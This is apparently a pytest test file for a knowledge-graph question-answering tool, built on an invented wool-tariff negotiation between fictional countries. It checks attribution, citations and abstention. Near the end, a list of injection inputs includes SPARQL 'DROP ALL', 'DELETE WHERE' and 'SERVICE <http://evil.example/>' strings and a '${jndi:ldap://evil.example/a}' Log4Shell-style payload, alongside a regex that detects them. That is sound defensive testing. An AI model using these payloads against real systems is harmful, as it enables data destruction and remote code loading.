"""Questions of the invented talks that facts in words answer: whose word it is, what is so, and what proves it."""

from __future__ import annotations

import json
import re
from functools import lru_cache
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import kg
from kg.ask.evidence.reading import EvidenceReading
from kg.errors import KgError
from tests.conftest import EXAMPLES

if TYPE_CHECKING:
    from kg.ask.answer import Answer

# What is asked; what the answer holds, and what it must not hold.
SAID = [
    ("What did Mara Venn say about the wool tariff?", ["tariff has to go first"], ["Dross", "Marsh", "Courier"]),
    ("What does Norvia want?", ["Norvia seeks its removal", "Extra Tessalian duty"], ["offers", "Yes"]),
    ("What did Venn refuse to sign?", ["Venn refuses", "sign nothing while the wool tariff stays"], ["Dross"]),
    ("What do glassmakers in Quill worry about?", ["uneasy", "glass quota"], ["Marsh"]),
    ("What does Norvia fear?", ["as told by", "price of wool will crash"], ["glass"]),
    ("What did Leda Marsh warn?", ["furnaces stand to lose a fifth", "if a quota is set"], ["Venn"]),
    ("What did Marsh say on the trade war?", ["no winner"], ["furnaces"]),
    ("What did Hale hope?", ["Hale (as told by Harbour Gazette) hopes", "meet Oakes"], ["will see"]),
    ("What do the wool growers hope?", ["to last for good"], ["Venn"]),
    ("What did Dross say about shepherds?", ["shield Tessaly's shepherds"], ["Venn"]),
    ("What did Venn tell Norvian television about the baseline?", ["ready to take the baseline"], ["Reporters"]),
    ("What did the Norvian trade ministry deny?", ["No glass quota is in the works"], ["Venn"]),
    ("What did Hale's office deny?", ["Nobody has been invited"], ["will see"]),
]
WHO = [
    ("Who said that three offers are on the table?", "Ilan Dross", "Mara Venn"),
    ("Who believes that a trade war has no winner?", "Leda Marsh", "Dross"),
    ("Who wants to meet Oakes?", "Sunniva Hale", "Venn"),
    ("Who said the extra duty protects shepherds?", "Ilan Dross", "Venn"),
]
# What is so is never denied, and what is denied is never told as so.
SO = [
    ("Was the third round called off?", "cancelled"),
    ("Did the wool growers hope the pause becomes permanent?", "to last for good"),
    ("Is the extra duty suspended?", "suspended"),
    ("Is Leda Marsh concerned about the quota?", "is concerned about it"),
    ("Did Venn refuse to sign an accord?", "Venn refuses"),
]
NOT_SO = [
    ("Did Norvia and Tessaly reach an accord?", "not reached"),
    ("Has Norvia imposed a quota on Tessalian glass?", "No glass quota is in the works"),
    ("Did Hale's office invite anyone?", "Nobody has been invited"),
]
TITLES = [
    ("What did the PM of Norvia hope?", "Sunniva Hale", "Bertil Oakes"),
    ("What did Norvia's PM hope?", "Sunniva Hale", "Bertil Oakes"),
    ("Who is the Norvian trade minister?", "Mara Venn", "Ilan Dross"),
    ("who is norvias trade minister", "Mara Venn", "Ilan Dross"),
    ("What did the economist warn about?", "Leda Marsh", "Venn"),
]
NOT_DONE = [
    "Did Hale meet Oakes?",
    "Did a fourth round take place?",
    "Did the Sound Council summit take place?",
    "Was the second round called off?",
    "Did Norvia drop the glass quota?",
    "Is the fourth round over?",
]
PROVEN = [
    *(q for q, _, _ in SAID), *(q for q, _ in SO),
    *(q for q, _ in NOT_SO), "Give me a timeline of the wool talks",
    "Summarise what Mara Venn said", "On what condition did Tessaly offer the package?",
]  # fmt: skip


@lru_cache(maxsize=1)
def talks() -> kg.Graph:
    return kg.open(EXAMPLES, sources=EXAMPLES / "texts")


@lru_cache(maxsize=200)
def ask(question: str) -> Answer:
    return talks().ask(question)


def proven(answer: Answer) -> set[tuple[str, str, str]]:
    return {triple for receipt in answer.citations for triple in receipt.triples}


@pytest.mark.parametrize(("question", "parts", "others"), SAID, ids=[q for q, _, _ in SAID])
def test_what_somebody_said_or_wanted_is_told_as_theirs(question: str, parts: list[str], others: list[str]) -> None:
    answer = ask(question)
    assert answer.answered
    for part in parts:
        assert part in answer.plain
    for other in others:
        assert other not in answer.plain


@pytest.mark.parametrize(("question", "who", "other"), WHO, ids=[q for q, _, _ in WHO])
def test_who_said_or_thought_it(question: str, who: str, other: str) -> None:
    answer = ask(question)
    assert answer.answered
    for sentence in answer.values:
        assert sentence.label.startswith(who)
    assert not any(value.label.startswith(other) for value in answer.values)


@pytest.mark.parametrize(
    "question", ["What did Pell say?", "What did Arkwright say about wool?", "What did Oakes say?"]
)
def test_nobody_is_given_the_words_of_others(question: str) -> None:
    answer = ask(question)
    assert answer.status == "abstained"
    assert answer.citations == ()


@pytest.mark.parametrize(("question", "part"), SO, ids=[q for q, _ in SO])
def test_what_is_so_is_not_denied(question: str, part: str) -> None:
    answer = ask(question)
    assert answer.answered
    assert part in answer.plain
    assert not answer.answer.startswith("No")


@pytest.mark.parametrize(("question", "part"), NOT_SO, ids=[q for q, _ in NOT_SO])
def test_what_is_denied_is_answered_no(question: str, part: str) -> None:
    answer = ask(question)
    assert answer.answer.startswith("No.")
    assert part in answer.plain
    assert answer.citations


@pytest.mark.parametrize("question", NOT_DONE)
def test_what_is_planned_hoped_for_or_denied_is_never_told_as_done(question: str) -> None:
    assert not ask(question).answer.startswith("Yes")


def test_a_hope_is_told_as_a_hope() -> None:
    (value,) = ask("What did Hale hope?").values
    assert " hopes: " in value.label


def test_why_is_answered_by_the_reason_on_record() -> None:
    answer = ask("Why does the Courier believe Oakes can hardly yield?")
    assert "because: he has a thin majority" in answer.plain


def test_the_condition_is_told() -> None:
    assert "against a pledge by Norvia" in ask("On what condition did Tessaly offer the package?").plain
    assert "if the wool tariff is lifted" in ask("On what condition would Venn sign a deal?").plain


def test_before_and_after_a_round_are_different_words() -> None:
    before = ask("What did Venn say before the third round?").plain
    assert "has to go first" in before
    assert "1 April 2031" not in before
    after = ask("What did Venn say after the third round?").plain
    assert "1 April 2031" in after
    assert "10 March 2031" not in after


def test_a_summary_of_a_person_is_the_office_first_and_then_own_words() -> None:
    answer = ask("Summarise what Mara Venn said")
    assert answer.plain.startswith("Mara Venn: Trade minister of Norvia")
    assert len(answer.values) > 3
    assert all(value.label.startswith("Mara Venn") for value in answer.values)


def test_a_timeline_of_held_rounds_is_in_order() -> None:
    answer = ask("Give me a timeline of the wool talks")
    told = answer.plain
    assert told.startswith("In order of their days:")
    days = ["was on 24 February 2031", "was on 7 March 2031", "was on 31 March 2031"]
    places = [told.index(day) for day in days]
    assert places == sorted(places)


def test_the_longest_is_one() -> None:
    answer = ask("which round was the longest")
    assert "140 minutes" in answer.plain
    assert "First" not in answer.plain


@pytest.mark.parametrize(("question", "who", "other"), TITLES, ids=[q for q, _, _ in TITLES])
def test_a_title_is_read_as_its_holder(question: str, who: str, other: str) -> None:
    answer = ask(question)
    assert answer.answered
    assert who in answer.plain
    assert other not in answer.plain


def test_the_trade_minister_of_another_country_is_nobody_here() -> None:
    answer = ask("What did the trade minister of Zorblatt say about the wool tariff?")
    assert answer.status == "abstained"
    assert "Zorblatt" in answer.answer


@pytest.mark.parametrize(
    "question",
    [
        "what did mara venn say about the wool tariff",
        "WHAT DID MARA VENN SAY ABOUT THE WOOL TARIFF",
        "Could you please tell me what Mara Venn said about the wool tariff?",
        "what did mara venn say abt the wool tariff",
        "What did Mara Venn say about the wool tariff???",
        "  What  did Mara   Venn say about the wool tariff ",
        "What did Venn, Mara say about the wool tariff?",
    ],
)
def test_manner_changes_nothing(question: str) -> None:
    assert ask(question).answer == ask("What did Mara Venn say about the wool tariff?").answer


def test_keywords_are_a_question_too() -> None:
    answer = ask("venn wool tariff accord")
    assert answer.answered
    assert all(value.label.startswith("Mara Venn") for value in answer.values)


@pytest.mark.parametrize(
    ("question", "note", "part"),
    [
        ("what do the wool growres hope", "read growres as growers", "to last for good"),
        ("what did the glassmakres fear", "read glassmakres as glassmakers", "uneasy"),
    ],
)
def test_a_slip_is_read_as_what_is_meant_and_told(question: str, note: str, part: str) -> None:
    answer = ask(question)
    assert part in answer.plain
    assert note in answer.assumed
    assert f"assumed: {note}" in answer.as_text()


@pytest.mark.parametrize("question", PROVEN)
def test_receipts_together_prove_all_that_the_query_gives(question: str) -> None:
    answer = ask(question)
    assert answer.answered
    assert answer.sparql is not None
    assert isinstance(answer.readings[0], EvidenceReading)
    rows = {tuple(map(str, row)) for row in talks().select(answer.sparql).rows}
    assert {s for s, _, _ in rows} >= {f"<{key.node}>" for key in answer.readings[0].lines}
    plain = {row for row in rows if row[1].rsplit("#")[-1].rstrip(">") not in SECONDARY}
    assert plain <= proven(answer)
    assert proven(answer) <= rows


# What a line knows besides what it tells; a receipt for it is no more than a kindness.
SECONDARY = {"about", "kind", "touches", "partOf", "channel", "platform"}


@pytest.mark.parametrize("question", PROVEN)
def test_every_receipt_holds_what_it_is_shown_for_and_is_verified(question: str) -> None:
    for receipt in ask(question).citations:
        assert receipt.triples
        assert receipt.proof.verified
        for s, p, o in receipt.triples:
            assert talks().query(f"ASK {{ GRAPH <{receipt.citation.iri}> {{ {s} {p} {o} }} }}") is True


@pytest.mark.parametrize("question", PROVEN)
def test_each_sentence_bears_numbers_of_receipts_that_are_shown(question: str) -> None:
    answer = ask(question)
    shown = {int(n) for n in re.findall(r"\[(\d+)\]", answer.answer)}
    assert shown
    assert shown <= {receipt.number for receipt in answer.citations}
    assert [receipt.number for receipt in answer.citations] == list(range(1, len(answer.citations) + 1))


KEYS = {
    "question", "status", "reason", "answer", "values", "citations", "sparql", "reading", "readings", "assumed",
    "related", "suggestions",
}  # fmt: skip
CITED = {"number", "iri", "article", "paragraph", "start", "end", "digest", "verified", "quote", "triples"}
REASONS = {
    None,
    "unknown-word",
    "unknown-thing",
    "no-record",
    "no-reading",
    "ambiguous",
    "unsupported",
    "false-premise",
}


@pytest.mark.parametrize("question", [*PROVEN, *NOT_DONE, "What did Zorblatt say?", "llamas"])
def test_the_json_is_as_programs_rely_on(question: str) -> None:
    answer = json.loads(json.dumps(ask(question).as_dict()))
    assert set(answer) >= KEYS
    assert answer["status"] in {"answered", "abstained"}
    assert answer["reason"] in REASONS
    assert (answer["reason"] is None) == (answer["status"] == "answered")
    assert bool(answer["citations"]) == (answer["status"] == "answered")
    for citation in answer["citations"]:
        assert set(citation) >= CITED
        assert set(citation["article"]) >= {"iri", "label", "publisher", "published"}
        assert all(len(triple) == 3 for triple in citation["triples"])
    assert all(set(value) == {"iri", "label", "datatype"} for value in answer["values"])
    assert all(set(near) == {"text", "citation"} for near in answer["related"])


def test_the_text_shows_quotes_reading_and_query() -> None:
    text = ask("What did Leda Marsh warn?").as_text()
    assert "“" in text
    assert "read as: what: " in text
    assert "SELECT ?s ?p ?o" in text


INJECTIONS = [
    'what did Venn say about "} DROP ALL #',
    "what did Venn say } UNION { ?s ?p ?o } about wool",
    "what did <https://kg.example/id/person/mara-venn> say about wool",
    "what did Venn say about wool'; DELETE WHERE { ?s ?p ?o }; --",
    "what did Venn say about wool SERVICE <http://evil.example/> { ?s ?p ?o }",
    "venn wool FILTER(?s = 1)",
    "SELECT * WHERE { ?s ?p ?o }",
    "BASE <http://evil.example/> what did Marsh warn",
    "${jndi:ldap://evil.example/a} what did Marsh warn",
    "what did Marsh warn \\u007d DROP ALL",
    "what did Marsh warn OFFSET 3 LIMIT 0",
]
TABOO = re.compile(r"DROP|DELETE|SERVICE|BASE|evil|jndi|LIMIT 0|FILTER\(\?s = 1\)|UNION \{ \?s \?p \?o")


@pytest.mark.parametrize("question", INJECTIONS)
def test_no_word_of_a_question_gets_into_its_query(question: str) -> None:
    answer = ask(question)
    assert answer.sparql is None or not TABOO.search(answer.sparql)


STARTS = [
    "what did Venn say about the wool tariff",
    "who met Dross",
    "Did Hale meet Oakes",
    "when was the second round",
    "",
]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(STARTS), st.text(st.characters(codec="utf-8", min_codepoint=32), max_size=40))
def test_whatever_is_typed_the_query_is_made_of_the_graphs_own_terms(start: str, rest: str) -> None:
    try:
        answer = talks().ask(f"{start} qqzx{rest}")
    except KgError:
        return
    assert "qqzx" not in (answer.sparql or "").lower()
    assert answer.answered or not answer.citations
    if answer.sparql:
        talks().select(answer.sparql)
